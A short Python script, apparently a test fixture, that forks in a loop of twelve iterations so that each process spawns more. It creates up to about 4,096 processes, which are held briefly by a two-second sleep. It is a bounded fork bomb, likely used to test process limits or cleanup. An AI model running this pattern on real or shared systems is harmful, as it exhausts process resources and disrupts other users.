"""Start processes that start processes."""

import os
import time

for _ in range(12):
    try:
        os.fork()
    except OSError:
        break
time.sleep(2)
